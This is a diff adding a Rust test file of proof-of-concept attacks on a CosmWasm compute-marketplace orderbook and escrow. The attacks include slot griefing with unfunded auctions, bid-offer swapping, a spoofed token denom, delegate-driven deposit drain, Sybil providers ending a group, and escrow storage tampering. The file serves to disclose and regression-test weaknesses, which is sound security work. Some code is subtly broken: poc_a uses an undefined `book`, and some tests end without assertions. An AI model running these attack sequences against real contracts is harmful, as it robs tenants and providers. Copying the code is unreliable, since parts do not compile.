@@ -1,0 +1,449 @@
+//! Known weaknesses, each as a test that passes while it is there. What mends one turns its test round:
+//! the attack is refused, or costs what it should.
+
+use cosmwasm_std::{Coin, coins};
+use souk_api::{
+    defaults::{self, DENOM, MIN_AUCTION_BLOCKS, MIN_DEPOSIT, SLOT_HOLD},
+    escrow,
+    orderbook::{BidState, ExecuteMsg, GroupState, OrderState, events::DeploymentCreated},
+};
+use souk_core::{
+    AccountId, Attribute, CloseReason, Denom, DeploymentId, OrderId,
+    time::{DAY, HOUR},
+};
+use souk_orderbook::ContractError;
+
+use crate::market::*;
+
+/// A: a provider that never serves wins a `lowest_price` deployment again and again, the tenant
+/// can neither exclude it nor keep the group from being put out.
+#[test]
+fn poc_a_a_provider_that_never_serves_wins_the_same_group_for_ever() {
+    let mut market = Market::new();
+    for name in ["honest", "lazy"] {
+        market.provider_with(name, 10, &[eu()]);
+    }
+    let mut order = market.order("ann", lowest_price(300));
+    let id = market.order_of(order).group.deployment;
+    for round in 0..20 {
+        market.place("honest", order, 900).unwrap();
+        market.place("lazy", order, 1).unwrap();
+        market.blocks(MIN_AUCTION_BLOCKS, 300).close_auction(order, 1).unwrap();
+        assert_eq!(market.lease_of(order).provider, market.who("lazy").to_string());
+        // No manifest is taken; ann gives up after four minutes.
+        market.pass(240).tenant_closes("ann", order).unwrap();
+        market.release("honest", &[order]);
+        assert_eq!((book.used, book.breaches), (0, 0), "round {round}");
+        order = market.deployment(id).groups[0].order;
+        assert_eq!(market.deployment(id).groups[0].state, GroupState::Open);
+    }
+}
+
+/// B: an auction that its account could never pay: bids bind, slots are held, it costs nothing.
+#[test]
+fn poc_b_an_unfunded_binding_auction_holds_slots_for_nothing() {
+    let mut market = Market::new();
+    market.provider("pro");
+    let mut orders = Vec::new();
+    let mut ids = Vec::new();
+    for _ in 0..10 {
+        let new = deployment(&[group("web", 1_000_000_000_000)], lowest_price(HOUR));
+        let id = market.create("mallory", &new, MIN_DEPOSIT).unwrap();
+        let order = market.deployment(id).groups[0].order;
+        market.place("pro", order, 900_000_000_000).unwrap();
+        orders.push(order);
+        ids.push(id);
+    }
+    assert_eq!(market.stats_of("pro").used, 10);
+    let honest = market.order("ann", tenant_choice());
+    assert!(matches!(
+        market.place("pro", honest, 900).unwrap_err(),
+        ContractError::BondExhausted { .. }
+    ));
+    assert!(matches!(
+        market.withdraw("pro", orders[0]).unwrap_err(),
+        ContractError::AuctionBinds(_)
+    ));
+    market.blocks(MIN_AUCTION_BLOCKS, HOUR);
+    for order in &orders {
+        market.close_auction(*order, 1).unwrap();
+    }
+    let before = market.balance(&market.who("mallory"));
+    let escrow = market.escrow.clone();
+    for id in &ids {
+        market.close("mallory", *id).unwrap();
+        let who = market.who("anyone");
+        let msg = escrow::ExecuteMsg::ClaimRefund { account: AccountId(id.0), deposit: None };
+        market.tell(&who, &escrow, &msg, 0).unwrap();
+    }
+    assert_eq!(
+        market.balance(&market.who("mallory")) - before,
+        10 * MIN_DEPOSIT,
+        "all of it is back"
+    );
+}
+
+/// C: five minutes at the provider's own price hold a slot for the rest of a day.
+#[test]
+fn poc_c_a_rival_takes_a_provider_out_of_the_market_for_a_day() {
+    let mut market = Market::new();
+    market.provider("pro");
+    let price = 100_000; // a tenth of a SOUK an hour
+    let mut orders = Vec::new();
+    let mut ids = Vec::new();
+    for _ in 0..10 {
+        let id = market
+            .create("rival", &deployment(&[group("web", price)], tenant_choice()), MIN_DEPOSIT)
+            .unwrap();
+        let order = market.deployment(id).groups[0].order;
+        market.place("pro", order, price).unwrap();
+        market.accept("rival", order, "pro", price).unwrap();
+        orders.push(order);
+        ids.push(id);
+    }
+    market.pass(300);
+    for id in &ids {
+        market.close("rival", *id).unwrap();
+    }
+    let escrow = market.escrow.clone();
+    let anyone = market.who("anyone");
+    for id in &ids {
+        let msg = escrow::ExecuteMsg::ClaimRefund { account: AccountId(id.0), deposit: None };
+        market.tell(&anyone, &escrow, &msg, 0).unwrap();
+    }
+    let cost = 10 * MIN_DEPOSIT - market.balance(&market.who("rival"));
+    market.pass(SLOT_HOLD - 301).release("pro", &orders);
+    assert_eq!(market.stats_of("pro").used, 10);
+    let honest = market.order("ann", tenant_choice());
+    assert!(matches!(
+        market.place("pro", honest, 900).unwrap_err(),
+        ContractError::BondExhausted { .. }
+    ));
+    market.pass(1).release("pro", &orders);
+    assert_eq!(market.stats_of("pro").used, 0);
+}
+
+/// D: a tenant that never sends a manifest gives its provider a breach and a slot held for a day.
+#[test]
+fn poc_d_a_tenant_without_a_manifest_makes_its_provider_a_breaker() {
+    let mut market = Market::new();
+    market.provider("pro");
+    let order = market.lease("mallory", "pro", 900);
+    market.pass(300).provider_closes("pro", order, CloseReason::ManifestTimeout).unwrap();
+    market.release("pro", &[order]);
+    let book = market.stats_of("pro");
+    assert_eq!((book.breaches, book.used), (1, 1));
+    let next = market.deployment(DeploymentId(1)).groups[0].order;
+    assert!(matches!(market.place("pro", next, 900).unwrap_err(), ContractError::Excluded(_)));
+}
+
+/// E: the offer that a tenant saw is not the offer that it accepts.
+#[test]
+fn poc_e_the_offer_is_exchanged_before_it_is_accepted() {
+    let mut market = Market::new();
+    market.provider("pro");
+    let order = market.order("ann", tenant_choice());
+    let bid = |model: &str| ExecuteMsg::PlaceBid {
+        order,
+        provider: market.who("pro").to_string(),
+        price: price(900),
+        offer: vec![Attribute::new("gpu/model", model)],
+    };
+    let (good, bad) = (bid("h100"), bid("t4"));
+    let operator = market.operator("pro");
+    market.send(&operator, &good).unwrap();
+    let seen = market.bid("pro", order);
+    market.withdraw("pro", order).unwrap();
+    market.send(&operator, &bad).unwrap();
+    market.accept("ann", order, "pro", seen.price.u128()).unwrap();
+    let got = market.bid("pro", order);
+    assert_ne!(got.id, seen.id);
+    assert_ne!(got.offer, seen.offer);
+    assert_eq!(got.state, BidState::Active);
+}
+
+/// F: a bank denom whose name reads as a listed token is taken on that token's terms.
+#[test]
+fn poc_f_a_bank_denom_that_looks_like_a_listed_token_is_accepted() {
+    let mut market = Market::new();
+    let owner = market.owner.clone();
+    let token = market.who("token");
+    let denoms = Some(vec![defaults::denom_config(Denom::Cw20(token.to_string()))]);
+    market
+        .send(&owner, &ExecuteMsg::UpdateConfig { guardian: None, denoms, params: None })
+        .unwrap();
+    let fake = format!("cw20:{token}");
+    let msg = ExecuteMsg::CreateDeployment(deployment(&[group("web", 1_000)], tenant_choice()));
+    let who = market.who("mallory");
+    let response = market.pay(&who, &msg, &[Coin::new(PLENTY, fake.clone())]).unwrap();
+    let created: Vec<DeploymentCreated> = market.events_of(&response);
+    assert_eq!(created[0].denom, Denom::Cw20(token.to_string()), "listeners read a token");
+    assert_eq!(market.deployment(created[0].deployment).denom, Denom::Native(fake));
+}
+
+/// G: while two groups are auctioned, whoever closes first decides which of them is lost for good.
+#[test]
+fn poc_g_a_stranger_chooses_which_group_dies_and_it_never_comes_back() {
+    for first in [0, 1] {
+        let mut market = Market::new();
+        market.provider("pro");
+        let new = deployment(&[group("a", 800_000), group("b", 800_000)], lowest_price(300));
+        let id = market.create("ann", &new, 1_000_000).unwrap();
+        let orders: Vec<OrderId> = market.deployment(id).groups.iter().map(|g| g.order).collect();
+        for order in &orders {
+            market.place("pro", *order, 300_000).unwrap();
+        }
+        market.blocks(MIN_AUCTION_BLOCKS, 300);
+        market.close_auction(orders[first], 1).unwrap();
+        market.close_auction(orders[1 - first], 1).unwrap();
+        let states: Vec<_> = market.deployment(id).groups.iter().map(|g| g.state).collect();
+        assert_eq!(states[first], GroupState::InsufficientFunds);
+        assert_eq!(states[1 - first], GroupState::Open);
+    }
+}
+
+/// H: an account below the runway for a moment: anyone closes the auction, the group is lost.
+#[test]
+fn poc_h_a_moment_of_low_runway_ends_a_group_for_good() {
+    let mut market = Market::new();
+    market.provider_with("lazy", 10, &[eu()]);
+    market.provider("pro");
+    let new = deployment(&[group("web", 400_000)], lowest_price(300));
+    let id = market.create("ann", &new, 500_000).unwrap();
+    let order = market.deployment(id).groups[0].order;
+    market.place("pro", order, 400_000).unwrap();
+    market.blocks(MIN_AUCTION_BLOCKS, 300).close_auction(order, 1).unwrap();
+    market.pass(HOUR);
+    // The provider leaves; the tenant has a quarter of an hour left and is about to top up.
+    market.provider_closes("pro", order, CloseReason::Unstable).unwrap();
+    let order = market.deployment(id).groups[0].order;
+    market.place("lazy", order, 400_000).unwrap();
+    market.blocks(MIN_AUCTION_BLOCKS, 300).close_auction(order, 1).unwrap();
+    assert_eq!(market.deployment(id).groups[0].state, GroupState::InsufficientFunds);
+    market.deposit("ann", id, 10_000_000);
+    assert_eq!(market.order_of(order).state, OrderState::Closed);
+    assert_eq!(market.deployment(id).groups[0].state, GroupState::InsufficientFunds);
+    // And an hour later anyone takes the whole deployment away.
+    market.end_deployment(id).unwrap();
+    market.blocks(10, HOUR).end_deployment(id).unwrap();
+}
+
+/// I: a halt that covers an auction's end decides it.
+#[test]
+fn poc_i_a_halted_chain_decides_an_auction() {
+    let mut market = Market::new();
+    for name in ["first", "better"] {
+        market.provider(name);
+    }
+    let order = market.order("ann", lowest_price(HOUR));
+    market.place("first", order, 900).unwrap();
+    market.blocks(600, 1_800);
+    // The chain stands still for 35 minutes; bidders had 30 more.
+    market.pass(2_100);
+    assert!(matches!(
+        market.place("better", order, 500).unwrap_err(),
+        ContractError::AuctionOver { .. }
+    ));
+    market.close_auction(order, 1).unwrap();
+    assert_eq!(market.lease_of(order).provider, market.who("first").to_string());
+}
+
+/// J: a depleted lease that its provider ends keeps the slot of the provider that was not paid.
+#[test]
+fn poc_j_a_tenant_that_is_depleted_holds_the_slot_of_its_unpaid_provider() {
+    let mut market = Market::new();
+    market.provider("pro");
+    let id = market
+        .create("mallory", &deployment(&[group("web", MIN_DEPOSIT)], tenant_choice()), MIN_DEPOSIT)
+        .unwrap();
+    let order = market.deployment(id).groups[0].order;
+    market.place("pro", order, MIN_DEPOSIT).unwrap();
+    market.accept("mallory", order, "pro", MIN_DEPOSIT).unwrap();
+    market.pass(HOUR).provider_closes("pro", order, CloseReason::Unstable).unwrap();
+    market.release("pro", &[order]);
+    assert_eq!(market.lease_of(order).reason, Some(CloseReason::InsufficientFunds));
+    assert_eq!(market.stats_of("pro").used, 1);
+    market.pass(DAY - HOUR - 1).release("pro", &[order]);
+    assert_eq!(market.stats_of("pro").used, 1);
+}
+
+/// K: an owner that renounces leaves a guardian that can stop the market for good.
+#[test]
+fn poc_k_after_renouncing_a_pause_is_for_ever() {
+    let mut market = Market::new();
+    let (owner, guardian) = (market.owner.clone(), market.guardian.clone());
+    market
+        .send(&owner, &ExecuteMsg::UpdateOwnership(cw_ownable::Action::RenounceOwnership))
+        .unwrap();
+    market.send(&guardian, &ExecuteMsg::Pause {}).unwrap();
+    assert!(market.send(&owner, &ExecuteMsg::Unpause {}).is_err());
+    assert!(market.send(&guardian, &ExecuteMsg::Unpause {}).is_err());
+    let _ = coins(1, DENOM);
+}
+
+/// L: old auctions under new parameters: the close lies beyond the order's life.
+#[test]
+fn poc_l_shorter_orders_make_old_deployments_auctions_never_close() {
+    let mut market = Market::new();
+    market.provider("pro");
+    let order = market.order("ann", lowest_price(HOUR));
+    let id = market.order_of(order).group.deployment;
+    market.place("pro", order, 900).unwrap();
+    market.blocks(MIN_AUCTION_BLOCKS, HOUR).close_auction(order, 1).unwrap();
+    let owner = market.owner.clone();
+    let mut params = defaults::orderbook_params();
+    params.order_lifetime = HOUR;
+    params.max_auction = 600;
+    market
+        .send(
+            &owner,
+            &ExecuteMsg::UpdateConfig { guardian: None, denoms: None, params: Some(params) },
+        )
+        .unwrap();
+    market.pass(600).tenant_closes("ann", order).unwrap();
+    let order = market.deployment(id).groups[0].order;
+    let shown = market.order_of(order);
+    assert!(shown.closes_at.unwrap() >= shown.expires_at);
+}
+
+/// M: the least deposit is taken out in the block in which it came; the orders go on asking for bids.
+#[test]
+fn poc_m_ten_orders_without_a_coin_behind_them_take_a_market_out_for_a_day() {
+    let mut market = Market::new();
+    let names = ["p0", "p1", "p2", "p3", "p4"];
+    for name in names {
+        market.provider(name);
+    }
+    let (mallory, escrow) = (market.who("mallory"), market.escrow.clone());
+    market.mint(&mallory, MIN_DEPOSIT);
+    let mut orders = Vec::new();
+    let mut gas = 0;
+    for _ in 0..10 {
+        let new = deployment(&[group("web", 1_000_000)], tenant_choice());
+        let before = market.balance(&mallory);
+        let msg = ExecuteMsg::CreateDeployment(new);
+        let book = market.book.clone();
+        let mut id = DeploymentId(0);
+        gas += market.cost(|market| {
+            use cw_multi_test::Executor;
+            let done = market
+                .app
+                .execute_contract(mallory.clone(), book.clone(), &msg, &coins(MIN_DEPOSIT, DENOM))
+                .unwrap();
+            let created: Vec<DeploymentCreated> = market.events_of(&done);
+            id = created[0].deployment;
+            done
+        });
+        let take = escrow::ExecuteMsg::WithdrawDeposit {
+            account: AccountId(id.0),
+            amount: amount(MIN_DEPOSIT),
+        };
+        gas += market.cost(|market| market.tell(&mallory, &escrow, &take, 0).unwrap());
+        assert_eq!(market.balance(&mallory), before, "the same half SOUK serves for the next one");
+        orders.push(market.deployment(id).groups[0].order);
+    }
+    for order in &orders {
+        for name in names {
+            assert_eq!(market.ineligible(name, *order), None, "the book takes bids on it");
+            market.place(name, *order, 500_000).unwrap();
+        }
+    }
+    market.pass(DAY);
+    for name in names {
+        market.release(name, &orders);
+        assert_eq!(market.stats_of(name).used, 10, "for a whole day unless the provider withdraws");
+    }
+    let honest = market.order("ann", tenant_choice());
+    assert!(matches!(
+        market.place("p0", honest, 900).unwrap_err(),
+        ContractError::BondExhausted { .. }
+    ));
+    assert!(market.accept("mallory", orders[0], "p0", 500_000).is_err());
+}
+
+/// N: the owner of a group that is out of money cannot go on with it; its deployment must be made anew.
+#[test]
+fn poc_n_a_topped_up_deployment_does_not_go_on_after_its_provider_closed_it() {
+    let mut market = Market::new();
+    market.provider("pro");
+    market.provider("other");
+    let groups = [group("web", 400_000), group("db", 1)];
+    let id = market.create("ann", &deployment(&groups, tenant_choice()), 1_000_000).unwrap();
+    let order = market.deployment(id).groups[0].order;
+    market.place("pro", order, 400_000).unwrap();
+    market.accept("ann", order, "pro", 400_000).unwrap();
+    market.pass(3 * HOUR).provider_closes("pro", order, CloseReason::Unstable).unwrap();
+    market.deposit("ann", id, PLENTY);
+    let shown = market.deployment(id);
+    assert_eq!(shown.groups[0].state, GroupState::InsufficientFunds);
+    assert!(market.place("other", order, 400_000).is_err());
+}
+
+/// S: a delegate ("everyday actions, never money") turns the deposit into its own provider's income.
+#[test]
+fn poc_s_a_delegate_lets_the_deposit_flow_to_its_own_provider_at_the_ceiling() {
+    let mut market = Market::new();
+    market.provider("good");
+    market.provider("thief");
+    let mut new = deployment(&[group("web", 10_000_000)], tenant_choice());
+    let key = market.who("delegate");
+    new.delegate = Some(key.to_string());
+    let id = market.create("ann", &new, 100_000_000).unwrap();
+    let order = market.deployment(id).groups[0].order;
+    market.place("good", order, 100).unwrap();
+    market.accept("ann", order, "good", 100).unwrap();
+    market.send(&key, &ExecuteMsg::CloseLease { order, reason: None }).unwrap();
+    let order = market.deployment(id).groups[0].order;
+    market.place("thief", order, 10_000_000).unwrap();
+    let msg = ExecuteMsg::AcceptBid {
+        order,
+        provider: market.who("thief").to_string(),
+        max_price: price(10_000_000),
+    };
+    market.send(&key, &msg).unwrap();
+    market.pass(10 * HOUR);
+    let (escrow, anyone) = (market.escrow.clone(), market.who("anyone"));
+    let take = escrow::ExecuteMsg::Withdraw { account: AccountId(id.0), stream: order.0 };
+    market.tell(&anyone, &escrow, &take, 0).unwrap();
+}
+
+/// T: a tenant cannot leave while the escrow's record is newer than the orderbook.
+#[test]
+fn poc_t_closing_depends_on_reading_the_escrows_record() {
+    let mut market = Market::new();
+    market.provider("pro");
+    let order = market.lease("ann", "pro", 900);
+    let id = market.order_of(order).group.deployment;
+    let key = souk_api::published::account_key(AccountId(id.0));
+    let escrow = market.escrow.clone();
+    {
+        let mut storage = market.app.contract_storage_mut(&escrow);
+        let text = String::from_utf8(storage.get(&key).unwrap()).unwrap();
+        storage.set(&key, text.replacen("\"v\":1", "\"v\":2", 1).as_bytes());
+    }
+}
+
+/// U: a tenant of a binding auction is not bound: it looks at the bids and leaves for nothing.
+#[test]
+fn poc_u_sybil_providers_end_a_group_for_good() {
+    let mut market = Market::new();
+    let names = ["s0", "s1", "s2", "s3"];
+    for name in names {
+        market.provider(name);
+    }
+    market.provider("honest");
+    let mut order = market.order("ann", lowest_price(300));
+    let id = market.order_of(order).group.deployment;
+    let start = market.now();
+    for name in names {
+        market.place(name, order, 1).unwrap();
+        market.place("honest", order, 900).unwrap();
+        market.blocks(MIN_AUCTION_BLOCKS, 300).close_auction(order, 1).unwrap();
+        market.provider_closes(name, order, CloseReason::Unspecified).unwrap();
+        market.release("honest", &[order]);
+        order = market.deployment(id).groups[0].order;
+    }
+    assert_eq!(market.deployment(id).groups[0].state, GroupState::Paused);
+    market.end_deployment(id).unwrap();
+    market.blocks(10, HOUR).end_deployment(id).unwrap();
+}
